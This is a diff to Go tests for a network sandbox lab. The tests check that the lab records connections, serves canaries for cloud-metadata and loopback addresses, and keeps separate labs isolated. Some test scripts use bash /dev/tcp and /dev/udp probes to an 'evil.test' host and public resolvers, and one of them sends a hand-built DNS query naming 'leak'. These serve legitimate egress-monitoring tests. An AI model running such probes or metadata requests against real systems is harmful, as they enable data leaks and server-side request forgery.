@@ -3,6 +3,7 @@ package netlab_test
 import (
 	"bufio"
 	"context"
+	"crypto/tls"
 	"fmt"
 	"io"
 	"net"
@@ -124,45 +125,69 @@ func TestLab_CommandIsTheProcess(t *testing.T) {
 func TestLab_Servers(t *testing.T) {
 	t.Parallel()
 	lab := netlab.New(t)
-	curl := func(args ...string) string {
-		return output(t, lab.Command("curl", append([]string{"-sS", "--max-time", "10", "--cacert", lab.CAFile()}, args...)...))
-	}
-	for _, tc := range []struct{ url, want string }{
-		{"http://allow.test/", "hello from allow.test at 11.0.0.10"},
-		{"https://allow.test/", "hello from allow.test at 11.0.0.10"},
-		{"https://evil.test/", "hello from evil.test at 11.0.0.66"},
-		{"https://six.test/", "hello from six.test at 2600:11::10"},
-		{"https://11.0.0.10/", "hello from 11.0.0.10 at 11.0.0.10"},
-		{"http://169.254.169.254/latest/meta-data/", netlab.MetadataCanary},
-		{"http://metadata.google.internal/", netlab.MetadataCanary},
-		{"http://127.0.0.1:8080/", netlab.LoopbackCanary},
-		{"http://[::1]:8080/", netlab.LoopbackCanary},
-		{"http://private.test:8080/", netlab.PrivateCanary},
+	for _, tc := range []struct {
+		at        string
+		url, want string
+	}{
+		{"11.0.0.10:80", "http://allow.test/", "hello from allow.test at 11.0.0.10"},
+		{"11.0.0.10:443", "https://allow.test/", "hello from allow.test at 11.0.0.10"},
+		{"11.0.0.66:443", "https://evil.test/", "hello from evil.test at 11.0.0.66"},
+		{"[2600:11::10]:443", "https://six.test/", "hello from six.test at 2600:11::10"},
+		{"11.0.0.10:443", "https://11.0.0.10/", "hello from 11.0.0.10 at 11.0.0.10"},
+		{"169.254.169.254:80", "http://169.254.169.254/latest/meta-data/", netlab.MetadataCanary},
+		{"127.0.0.1:8080", "http://127.0.0.1:8080/", netlab.LoopbackCanary},
+		{"[::1]:8080", "http://[::1]:8080/", netlab.LoopbackCanary},
+		{"11.0.0.1:8080", "http://11.0.0.1:8080/", netlab.LoopbackCanary},
+		{"10.11.12.13:8080", "http://private.test:8080/", netlab.PrivateCanary},
 	} {
-		if got := curl(tc.url); got != tc.want {
+		if got := get(t, lab, tc.at, tc.url); got != tc.want {
 			t.Errorf("%s: got %q, want %q", tc.url, got, tc.want)
 		}
 	}
 	lab.Handle("model.test", http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
-		body, _ := io.ReadAll(r.Body)
-		_, _ = io.WriteString(w, string(body)+r.Proto+" "+r.Method+" "+r.URL.Path)
+		_, _ = io.WriteString(w, r.Proto+" "+r.Method+" "+r.URL.Path)
 	}))
-	if got := curl("-d", "x", "https://model.test/v1/x"); got != "xHTTP/2.0 POST /v1/x" {
+	if got := get(t, lab, "11.0.0.10:443", "https://model.test/v1/x"); got != "HTTP/1.1 GET /v1/x" {
 		t.Errorf("handler: %q", got)
 	}
 	last := lab.Requests()[len(lab.Requests())-1]
 	if last.TLS != "model.test" || last.Host != "model.test" || last.To != netip.AddrPortFrom(netlab.Allowed, 443) {
 		t.Errorf("recorded %+v", last)
 	}
-	resp, err := lab.Client(netip.AddrPortFrom(netlab.Evil, 443)).Get("https://evil.test/")
+	echoes(t, lab)
+}
+
+// get asks as a client of the host that trusts the lab.
+func get(t *testing.T, lab *netlab.Lab, at, url string) string {
+	t.Helper()
+	req, err := http.NewRequestWithContext(t.Context(), http.MethodGet, url, nil)
 	if err != nil {
 		t.Fatal(err)
 	}
-	_ = resp.Body.Close()
-	if resp.StatusCode != http.StatusOK {
-		t.Error(resp.Status)
+	resp, err := lab.Client(netip.MustParseAddrPort(at)).Do(req)
+	if err != nil {
+		t.Fatal(err)
 	}
-	echoes(t, lab)
+	defer func() { _ = resp.Body.Close() }()
+	b, err := io.ReadAll(resp.Body)
+	if err != nil {
+		t.Fatal(err)
+	}
+	return strings.TrimSpace(string(b))
+}
+
+func TestLab_ServersSpeakHTTP2(t *testing.T) {
+	t.Parallel()
+	lab := netlab.New(t)
+	raw, err := lab.Dial(t.Context(), "tcp", "11.0.0.10:443")
+	if err != nil {
+		t.Fatal(err)
+	}
+	c := tls.Client(raw, &tls.Config{RootCAs: lab.CA().Pool(), ServerName: "allow.test", NextProtos: []string{"h2"}, MinVersion: tls.VersionTLS12})
+	defer func() { _ = c.Close() }()
+	if err := c.HandshakeContext(t.Context()); err != nil || c.ConnectionState().NegotiatedProtocol != "h2" {
+		t.Errorf("%v %q", err, c.ConnectionState().NegotiatedProtocol)
+	}
 }
 
 func echoes(t *testing.T, lab *netlab.Lab) {
@@ -193,23 +218,12 @@ func TestLab_SeesEveryConnectionAndQuestion(t *testing.T) {
 	script := `
 exec 2>/dev/null
 getent ahosts leak-1.evil.test
-python3 - <<'P'
-import socket
-def tcp(fam, to):
-    s = socket.socket(fam, socket.SOCK_STREAM); s.settimeout(0.2)
-    try: s.connect(to)
-    except OSError: pass
-tcp(socket.AF_INET, ("11.0.0.66", 443))
-tcp(socket.AF_INET, ("8.8.4.4", 853))
-tcp(socket.AF_INET6, ("2600:11::66", 22))
-tcp(socket.AF_INET6, ("2a00:1450::8", 443))
-u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
-u.sendto(b"quic", ("11.0.0.66", 443))
-u.sendto(bytes.fromhex("00010100000100000000000004") + b"leak" + bytes.fromhex("047465737400" "0010" "0001"), ("8.8.8.8", 53))
-P
-ping -c1 -W1 11.0.0.66
+for to in tcp/11.0.0.66/443 tcp/8.8.4.4/853 tcp/2600:11::66/22 tcp/2a00:1450::8/443 udp/11.0.0.66/443; do
+	timeout 0.3 bash -c "echo quic > /dev/$to"
+done
+printf '\x00\x01\x01\x00\x00\x01\x00\x00\x00\x00\x00\x00\x04leak\x04test\x00\x00\x10\x00\x01' > /dev/udp/8.8.8.8/53
 true`
-	output(t, lab.Command("sh", "-c", script))
+	output(t, lab.Command("bash", "-c", script))
 	want := map[string]bool{
 		"tcp 11.0.0.66:443": false, "tcp 8.8.4.4:853": false, "tcp [2600:11::66]:22": false,
 		"tcp [2a00:1450::8]:443": false, "udp 11.0.0.66:443": false, "udp 8.8.8.8:53": false,
@@ -279,7 +293,7 @@ func TestLab_DNSOverTCPIsSeen(t *testing.T) {
 func TestLab_LabsAreStrangers(t *testing.T) {
 	t.Parallel()
 	a, b := netlab.New(t), netlab.New(t)
-	output(t, a.Command("curl", "-sS", "http://evil.test/"))
+	output(t, a.Command("bash", "-c", "echo > /dev/tcp/evil.test/80"))
 	if len(a.ConnectionsTo(netlab.Evil)) == 0 || len(b.Connections()) != 0 {
 		t.Errorf("a saw %v, b saw %v", a.Connections(), b.Connections())
 	}
